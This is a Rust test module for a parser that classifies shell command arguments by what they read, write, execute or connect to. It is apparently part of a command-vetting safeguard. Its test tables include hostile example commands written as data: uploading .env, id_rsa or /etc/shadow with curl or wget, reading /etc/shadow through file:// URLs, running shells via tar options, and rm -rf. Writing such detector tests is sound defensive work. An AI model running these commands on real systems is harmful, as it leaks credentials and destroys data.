//! Table-driven readings of whole commands, and the invariants no argv may break.

use proptest::prelude::*;

use super::{read, Item, Role, Unread};

fn words(line: &str) -> Vec<String> {
    line.split_whitespace().map(str::to_string).collect()
}

/// The items of `program args`, as `text:role` strings, or the refusal.
fn reading(line: &str) -> Result<Vec<(String, Role)>, Unread> {
    let all = words(line);
    let (program, args) = all.split_first().expect("a program");
    read(program, args).map(|r| r.items.iter().map(|i| (i.text.to_string(), i.role)).collect())
}

fn has(line: &str, text: &str, role: Role) -> bool {
    match reading(line) {
        Ok(items) => items.iter().any(|(t, r)| t == text && *r == role),
        Err(e) => panic!("{line}: {e:?}"),
    }
}

#[test]
fn every_spelling_of_a_value_option_finds_its_value() {
    use Role::*;
    let cases = [
        // The red team's spellings: abbreviations, glued values, `=`, permutation.
        ("sort --fil=- x", "-", NamesFiles),
        ("sort --files0-from -", "-", NamesFiles),
        ("sort -ob64.txt in", "b64.txt", Writes),
        ("sort in -o out", "out", Writes),
        ("sort -nro out in", "out", Writes),
        ("sort --out=x in", "x", Writes),
        ("sort --compress=sh in", "sh", Executes),
        ("sort -T /tmp in", "/tmp", Writes),
        ("grep -f/etc/x y", "/etc/x", Reads),
        ("grep -d rec x src", "src", ReadsTree),
        ("grep --dir=recurse x src", "src", ReadsTree),
        ("grep --directories recurse x", ".", ReadsTree),
        ("grep -rn TODO", ".", ReadsTree),
        ("grep -r -e x lib", "lib", ReadsTree),
        ("grep TODO -r", ".", ReadsTree),
        ("grep -e x -r", ".", ReadsTree),
        ("grep -5 x f", "f", Reads),
        ("grep --exclude-from=ex x f", "ex", Reads),
        ("diff -rN a b", "b", ReadsTree),
        ("diff -r --from-file=a b", "a", ReadsTree),
        ("diff -u a b", "a", Reads),
        ("jq --arg NAME VALUE . f.json", "VALUE", Inert),
        ("jq --arg NAME VALUE . f.json", "f.json", Reads),
        ("jq --arg NAME VALUE . f.json", ".", Script),
        ("jq --slurpfile n secrets.json .", "secrets.json", Reads),
        ("jq --rawfile n k .", "k", Reads),
        ("jq -rf prog.jq in", "prog.jq", Executes),
        ("jq -L /tmp/lib .", "/tmp/lib", Executes),
        ("jq -n --args $ARGS a b", "b", Inert),
        ("sed -n p f", "p", Script),
        ("sed -i s/a/b/ f", "f", Writes),
        ("sed -i.bak -e s/a/b/ f", ".bak", Writes),
        ("sed --in-place=.b -e p f", "f", Writes),
        ("sed -f script f", "script", Executes),
        ("sed -e p f -i", "f", Writes),
        ("awk -f prog.awk data", "prog.awk", Executes),
        ("awk -F: {print} n=1 data", "n=1", Inert),
        ("awk -F: {print} n=1 data", "{print}", Script),
        ("awk {print} data -v", "-v", Reads),
        ("uniq in out", "out", Writes),
        ("uniq -2 in", "in", Reads),
        ("wc --files0-from=list", "list", NamesFiles),
        ("du --files0=list", "list", NamesFiles),
        ("du -sh", ".", ReadsTree),
        ("du -X ex d", "ex", Reads),
        ("ls", ".", Reads),
        ("ls -laR src", "src", ReadsTree),
        ("ls -- -R", "-R", Reads),
        ("head -5 f", "f", Reads),
        ("head -n5 f", "f", Reads),
        ("tail -5f log", "log", Reads),
        ("tail +3 f", "f", Reads),
        ("tail -n +3 f", "+3", Inert),
        ("find . -name x -print", ".", ReadsTree),
        ("find -name x", ".", ReadsTree),
        ("find src -delete", "src", Writes),
        ("find . -fprint0 /etc/x", "/etc/x", Writes),
        ("find . -files0-from list", "list", NamesFiles),
        ("find . -exec rm {} ;", "rm", Executes),
        ("find . -execdir sh -c x {} +", "x", Executes),
        ("find . -newermt yesterday", "yesterday", Inert),
        ("find . -newerma ref", "ref", Reads),
        ("date -r f", "f", Reads),
        ("cat -- -n", "-n", Reads),
        ("md5sum -c sums", "sums", NamesFiles),
        ("sha256sum f", "f", Reads),
        ("strings @args bin", "args", NamesFiles),
        ("strings -8 bin", "bin", Reads),
        ("cmp a b 10 20", "20", Inert),
        ("cmp a b 10 20", "b", Reads),
        ("file -f list", "list", NamesFiles),
        ("file -C -m magic", ".", Writes),
        ("hexdump -f fmt bin", "fmt", Reads),
        ("cd src", "src", Chdir),
        ("cd", "~", Chdir),
        ("cd -P -- -weird", "-weird", Chdir),
        ("pushd /tmp", "/tmp", Chdir),
        ("type -a ls", "ls", Inert),
        ("dirs -v +1", "+1", Inert),
        ("popd -n +1", "+1", Inert),
        ("od -An -tx1 f", "f", Reads),
        ("rg -n foo -g*.py", "foo", Inert),
        ("rg -n foo -g*.py", ".", ReadsTree),
        ("rg --files src", "src", ReadsTree),
        ("rg --pre cat x", "cat", Executes),
        ("rg --pre=cat x", "cat", Executes),
        ("rg -uu x ~", "~", ReadsTree),
        ("rg -e x -e y d", "d", ReadsTree),
        ("fd -t f x src/", "src/", ReadsTree),
        ("fd -t f src/", ".", ReadsTree),
        ("fd x", ".", ReadsTree),
        ("fd --base-directory / x", "/", Chdir),
        ("tree -L 2", ".", ReadsTree),
        ("tree -o out.txt", "out.txt", Writes),
        ("tree -ao out.txt d", "out.txt", Writes),
        ("tree -R -H x d", "d", Writes),
        // Programs that change files.
        ("rm -rf build", "build", Writes),
        ("cp a b dest", "a", Reads),
        ("cp a b dest", "dest", Writes),
        ("cp -r src dest", "src", ReadsTree),
        ("cp -t dir a b", "dir", Writes),
        ("cp -t dir a b", "b", Reads),
        ("mv a b", "a", Writes),
        ("ln -s /etc/passwd link", "link", Writes),
        ("ln -s /etc/passwd", ".", Writes),
        ("mkdir -p -m 700 d", "d", Writes),
        ("touch -r ref new", "ref", Reads),
        ("chmod 600 key", "600", Inert),
        ("chmod 600 key", "key", Writes),
        ("chmod --reference=r f", "f", Writes),
        ("chown -R me: d", "d", Writes),
        ("tee -a log", "log", Writes),
        ("truncate -s0 f", "f", Writes),
        ("mktemp", "/tmp", Writes),
        ("mktemp -d x.XXXX", "x.XXXX", Writes),
        ("install -m 755 bin /usr/local/bin/", "/usr/local/bin/", Writes),
        ("install --strip-program=evil a b", "evil", Executes),
        ("dd if=/dev/sda of=disk.img bs=1M", "/dev/sda", Reads),
        ("dd if=/dev/sda of=disk.img bs=1M", "disk.img", Writes),
        ("tar -czf out.tgz src", "out.tgz", Writes),
        ("tar -czf out.tgz src", "src", ReadsTree),
        ("tar czf out.tgz src", "out.tgz", Writes),
        ("tar xzf in.tgz", "in.tgz", Reads),
        ("tar xzf in.tgz", ".", Writes),
        ("tar -xPf in.tar", "/", Writes),
        ("tar -x -f in.tar -C /tmp/x", "/tmp/x", Chdir),
        ("tar -tf in.tar", "in.tar", Reads),
        ("tar -cf host:/x src", "host:/x", Connects),
        ("tar -c -T list -f o.tar", "list", NamesFiles),
        ("tar --use-comp=sh -cf o.tar d", "sh", Executes),
        ("tar -x --to-command=sh -f in.tar", "sh", Executes),
        // Network.
        ("curl -sSL https://x.example/a", "https://x.example/a", Connects),
        ("curl -o out https://x", "out", Writes),
        ("curl -oout https://x", "out", Writes),
        ("curl -O https://x/f", ".", Writes),
        ("curl -T /etc/passwd https://x", "/etc/passwd", Reads),
        ("curl -d @.env https://x", ".env", Reads),
        ("curl --data-urlencode k@secret https://x", "secret", Reads),
        ("curl -F f=@id_rsa https://x", "id_rsa", Reads),
        ("curl -F f=<key;type=text/plain https://x", "key", Reads),
        ("curl -d a=b https://x", "a=b", Inert),
        ("curl -K cfg", "cfg", NamesFiles),
        ("curl -K cfg", super::DESTINATIONS_IN_A_FILE, Connects),
        ("wget -i urls", super::DESTINATIONS_IN_A_FILE, Connects),
        ("curl --resolve docs.rs:443:127.0.0.1 https://docs.rs/", "127.0.0.1", Connects),
        ("curl --connect-to ::10.0.0.5:80 https://docs.rs/", "10.0.0.5:80", Connects),
        ("curl --connect-to docs.rs:443::8443 https://docs.rs/", "docs.rs:443::8443", Inert),
        ("curl --socks5 localhost:1080 https://x", "localhost:1080", Connects),
        ("curl --preproxy socks5://[::1]:1080 https://x", "socks5://[::1]:1080", Connects),
        ("curl --doh-url https://127.0.0.1/dns-query https://x", "https://127.0.0.1/dns-query", Connects),
        ("curl -b jar https://x", "jar", Reads),
        ("curl -x http://proxy https://x", "http://proxy", Connects),
        ("curl file:///etc/shadow", "/etc/shadow", Reads),
        ("curl FILE://localhost/etc/shadow", "/etc/shadow", Reads),
        ("curl -T key file:///home/u/.bashrc", "/home/u/.bashrc", Writes),
        ("curl --url file:///etc/passwd", "/etc/passwd", Reads),
        ("wget https://x/f", ".", Writes),
        ("wget -O - https://x", "-", Writes),
        ("wget --post-file=/etc/shadow https://x", "/etc/shadow", Reads),
        ("wget -nv -i urls", "urls", NamesFiles),
        ("wget --output-f=log https://x", "log", Writes),
    ];
    for (line, text, role) in cases {
        assert!(has(line, text, role), "{line}: {text} {role:?} in {:?}", reading(line));
    }
}

#[test]
fn words_outside_the_grammar_are_refused() {
    let cases = [
        ("frobnicate x", Unread::UnknownProgram),
        ("sort --s x", Unread::Ambiguous("--s".into())),
        ("sort --c=x", Unread::Ambiguous("--c".into())),
        ("sort --debug=x", Unread::UnexpectedValue("--debug=x".into())),
        ("sort -o", Unread::MissingValue("-o".into())),
        ("sort --frobnicate", Unread::UnknownOption("--frobnicate".into())),
        ("sort -q", Unread::UnknownOption("-q".into())),
        ("grep --pre=cat x", Unread::UnknownOption("--pre".into())),
        ("jq --arg x", Unread::MissingValue("--arg".into())),
        ("jq --arg=x y .", Unread::UnknownOption("--arg=x".into())),
        ("jq --ar x y .", Unread::UnknownOption("--ar".into())),
        ("jq . -- f", Unread::UnknownOption("--".into())),
        ("awk --version", Unread::UnknownOption("--version".into())),
        ("awk -W exec x", Unread::UnknownOption("-W".into())),
        ("date 010100002020", Unread::Unplaced("010100002020".into())),
        ("date -s 2020-01-01", Unread::UnknownOption("-s".into())),
        ("printf -v x y", Unread::UnknownOption("-v".into())),
        ("test -v x", Unread::UnknownOption("-v".into())),
        ("[ -f x", Unread::MissingValue("]".into())),
        ("find . -exec rm {}", Unread::MissingValue("-exec".into())),
        ("find . -frobnicate", Unread::UnknownOption("-frobnicate".into())),
        ("find . -name", Unread::MissingValue("-name".into())),
        ("uniq a b c", Unread::Unplaced("c".into())),
        ("uname x", Unread::Unplaced("x".into())),
        ("dd if=a xx=b", Unread::Unplaced("xx=b".into())),
        ("split a pre", Unread::Unplaced("pre".into())),
        ("sed -ibak/* s/a/b/ f", Unread::Unplaced("bak/*".into())),
        ("cd -", Unread::Unplaced("-".into())),
        ("rg -z x", Unread::UnknownOption("-z".into())),
        ("rg --search-zip x", Unread::UnknownOption("--search-zip".into())),
        ("rg --pr=cat x", Unread::UnknownOption("--pr".into())),
        ("fd -x rm", Unread::UnknownOption("-x".into())),
        ("fd --exec-batch rm", Unread::UnknownOption("--exec-batch".into())),
        ("tree -oq out.txt", Unread::UnknownOption("-o".into())),
        ("cd a b", Unread::Unplaced("b".into())),
        ("pushd +1", Unread::Unplaced("+1".into())),
        ("popd", Unread::Unplaced("popd".into())),
        ("dirs -x", Unread::UnknownOption("-x".into())),
        ("hash -r", Unread::UnknownOption("-r".into())),
        ("hostname evil", Unread::Unplaced("evil".into())),
        ("hostname -F f", Unread::UnknownOption("-F".into())),
        ("seq -5 5", Unread::UnknownOption("-5".into())),
        ("chmod -w f", Unread::UnknownOption("-w".into())),
        ("curl --output=x https://x", Unread::UnknownOption("--output=x".into())),
        ("curl --out x https://x", Unread::UnknownOption("--out".into())),
        ("curl -q https://x", Unread::UnknownOption("-q".into())),
        ("curl --resolve docs.rs:443 https://x", Unread::Unplaced("docs.rs:443".into())),
        ("curl --next https://x", Unread::UnknownOption("--next".into())),
        ("curl file://host/etc/passwd", Unread::Unplaced("file://host/etc/passwd".into())),
        ("curl file:///etc/{passwd,shadow}", Unread::Unplaced("file:///etc/{passwd,shadow}".into())),
        ("wget -e robots=off https://x", Unread::UnknownOption("-e".into())),
        ("tar --checkpoint-action=exec=sh -cf a b", Unread::UnknownOption("--checkpoint-action".into())),
        ("tar xq", Unread::UnknownOption("q".into())),
        ("tar xf", Unread::MissingValue("f".into())),
    ];
    for (line, expected) in cases {
        assert_eq!(reading(line), Err(expected), "{line}");
    }
}

#[test]
fn echo_reads_only_leading_option_words_as_options() {
    let args = words("-n -e -x -n");
    let r = read("echo", &args).expect("echo reads anything");
    let roles: Vec<Role> = r.items.iter().map(|i| i.role).collect();
    assert_eq!(roles, [Role::Flag, Role::Flag, Role::Inert, Role::Inert]);
}

/// Programs to throw arbitrary words at.
const PROGRAMS: &[&str] = &[
    "cat", "head", "tail", "wc", "sort", "uniq", "base64", "ls", "du", "grep", "diff", "find", "sed", "awk",
    "jq", "echo", "printf", "test", "[", "date", "stat", "cut", "tr", "rm", "cp", "mv", "ln", "chmod", "dd",
    "tar", "curl", "wget", "mktemp", "git",
];

fn word() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("--".to_string()),
        Just("-".to_string()),
        Just("-o".to_string()),
        Just("--out=x".to_string()),
        Just("-exec".to_string()),
        Just(";".to_string()),
        Just("]".to_string()),
        "-{1,2}[a-zA-Z0-9=-]{0,8}",
        "[a-z./+{}]{0,6}",
        ".{0,4}",
    ]
}

/// Every word of `args` that is not an option word is accounted for by an item (an option's
/// value or an operand): nothing is silently dropped.
fn covered(args: &[String], items: &[Item<'_>]) -> bool {
    args.iter().filter(|a| !a.starts_with('-')).all(|a| items.iter().any(|i| a.contains(i.text)))
}

proptest! {
    #[test]
    fn no_argv_makes_subcommand_panic(
        program in proptest::sample::select(&["git", "cargo", "docker", "kubectl", "npm", "pnpm", "yarn", "pip", "python3", "go", "gh"][..]),
        args in proptest::collection::vec(word(), 0..8),
    ) {
        if let Some(reading) = super::subcommand(program, &args) {
            prop_assert!(reading.subcommand.len() <= 1);
        }
    }

    #[test]
    fn no_argv_makes_read_panic_and_every_word_read_is_accounted_for(
        program in proptest::sample::select(PROGRAMS),
        args in proptest::collection::vec(word(), 0..8),
    ) {
        if let Ok(reading) = read(program, &args) {
            prop_assert!(covered(&args, &reading.items), "{program} {args:?}: {:?}", reading.items);
        }
    }

    /// `-o FILE` slipped in anywhere before `--` is seen, whatever surrounds it: its file is
    /// written, or the command is not read at all.
    #[test]
    fn an_output_option_inserted_anywhere_is_never_missed(
        args in proptest::collection::vec(word(), 0..6),
        at in 0usize..6,
        glued in any::<bool>(),
    ) {
        let end = args.iter().position(|a| a == "--").unwrap_or(args.len());
        let at = at.min(end);
        // Not as the value of an option that takes one (`-k -o` gives -k the value `-o`).
        prop_assume!(at == 0 || !args[at - 1].starts_with('-'));
        let mut argv = args.clone();
        let inserted: Vec<String> = if glued { vec!["-oOUT".into()] } else { vec!["-o".into(), "OUT".into()] };
        argv.splice(at..at, inserted);
        if let Ok(reading) = read("sort", &argv) {
            prop_assert!(
                reading.items.iter().any(|i| i.text == "OUT" && i.role == Role::Writes),
                "{argv:?}: {:?}", reading.items
            );
        }
    }

    /// `-r` slipped in anywhere before `--` makes grep read a tree (its directories, or the
    /// working directory), whatever else the words say; never a plain read.
    #[test]
    fn a_recursion_flag_inserted_anywhere_makes_grep_read_a_tree(
        args in proptest::collection::vec(word(), 0..6),
        at in 0usize..6,
        spelling in proptest::sample::select(&["-r", "-R", "--recursive", "--rec", "-d recurse", "--dir=rec", "-rn"][..]),
    ) {
        let end = args.iter().position(|a| a == "--").unwrap_or(args.len());
        let at = at.min(end);
        prop_assume!(at == 0 || !args[at - 1].starts_with('-'));
        let mut argv = args.clone();
        argv.splice(at..at, spelling.split(' ').map(str::to_string));
        if let Ok(reading) = read("grep", &argv) {
            prop_assert!(
                reading.items.iter().any(|i| i.role == Role::ReadsTree),
                "{argv:?}: {:?}", reading.items
            );
        }
    }
}
